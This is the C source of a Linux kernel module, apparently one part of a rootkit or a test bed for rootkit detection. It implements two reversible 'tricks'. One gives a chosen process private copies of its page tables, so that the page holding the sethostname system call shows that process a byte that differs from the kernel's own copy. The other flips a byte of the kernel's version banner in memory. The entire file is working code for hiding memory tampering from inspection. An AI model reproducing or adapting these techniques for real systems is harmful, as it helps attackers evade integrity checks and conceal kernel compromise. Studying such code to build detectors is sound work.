// SPDX-License-Identifier: GPL-2.0-only
/* What leads a look astray: other page tables, and a kernel that says it is another. */
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched.h>

#include "rootkit.h"

#define LEVELS_MAX 5
#define ENTRY(entry) ((entry) & 0x000ffffffffff000ul)
#define LARGE (1ul << 7)

static char *banner;
static void *target;			/* __x64_sys_sethostname */

/* ---- other page tables, of one process ---- */

/* Copies of all that leads to one page, which is another's there; and of that. */
static unsigned long copies[LEVELS_MAX + 1];
static unsigned int ncopies;
static unsigned long *top, old_top;

static void free_copies(void)
{
	while (ncopies)
		free_page(copies[--ncopies]);
}

static unsigned long *new_page(void)
{
	unsigned long page = __get_free_page(GFP_KERNEL);

	if (page)
		copies[ncopies++] = page;
	return (unsigned long *)page;
}

/* A large page as a table of small ones. */
static void split(unsigned long *table, unsigned long entry)
{
	for (unsigned long i = 0; i < PTRS_PER_PTE; i++)
		table[i] = (entry & ~LARGE) + (i << PAGE_SHIFT);
}

static unsigned int levels(void)
{
	unsigned long cr4;

	asm volatile("mov %%cr4, %0" : "=r" (cr4));
	return cr4 & (1ul << 12) ? 5 : 4;
}

/* Of the top entry what it has to be, so that the page at lies in is another. */
static int divert(unsigned int level, unsigned long at, unsigned long *ret_top)
{
	unsigned long old = old_top, *entry = ret_top;

	for (; level; level--) {
		unsigned long *page = new_page();
		const bool large = level == 2 && (old & LARGE);

		if (!page)
			return -ENOMEM;
		if (large)
			split(page, old);
		else
			memcpy(page, __va(ENTRY(old)), PAGE_SIZE);
		*entry = (large ? _KERNPG_TABLE : old & ~ENTRY(~0ul)) | __pa(page);
		if (level == 1) {
			*((u8 *)page + (at & ~PAGE_MASK)) ^= 1;
			break;
		}
		entry = page + (at >> (12 + 9 * (level - 2)) & 511);
		old = *entry;
	}
	return 0;
}

static int other_tables(void)
{
	const unsigned int n = levels();
	struct task_struct *task = hide_chosen();
	unsigned long value;
	int r;

	if (!task || !task->mm)
		return -ESRCH;
	top = (unsigned long *)task->mm->pgd + ((unsigned long)target >> (12 + 9 * (n - 1)) & 511);
	old_top = *top;
	r = divert(n, (unsigned long)target, &value);
	if (r)
		free_copies();
	else
		WRITE_ONCE(*top, value);
	return r;
}

static void own_tables(void)
{
	WRITE_ONCE(*top, old_top);
	/* No CPU has anything of them any more: it sleeps, and wakes to no other tables. */
	free_copies();
}

/* ---- what the kernel says of itself ---- */

static int other_banner(void)
{
	const u8 byte = banner[20] ^ 1;

	return rootkit_write(banner + 20, &byte, 1);
}

static void own_banner(void)
{
	WARN_ON(other_banner());
}

struct trick other_tricks[] = {
	{ "tables", other_tables, own_tables },
	{ "banner", other_banner, own_banner },
	{ }
};

int other_init(void)
{
	banner = rootkit_symbol("linux_banner");
	target = rootkit_symbol("__x64_sys_sethostname");
	return banner && target ? 0 : -ENOENT;
}
